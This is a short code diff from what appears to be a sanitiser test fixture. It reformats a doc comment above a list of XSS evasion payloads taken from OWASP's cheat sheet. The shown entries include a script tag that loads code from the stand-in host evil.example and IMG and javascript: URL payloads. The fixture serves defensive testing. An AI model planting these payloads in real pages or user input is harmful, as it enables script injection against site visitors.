@@ -2,7 +2,10 @@
 
 const JS = 'javascript:alert(1)'
 
-/** The evasions of OWASP's cheat sheet, those of HTML5 and of mutation, each as a comment could carry it. */
+/**
+ * The evasions of OWASP's cheat sheet, those of HTML5 and of mutation, each as a comment could
+ * carry it.
+ */
 export const HTML = [
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
   `<IMG SRC="${JS};">`,
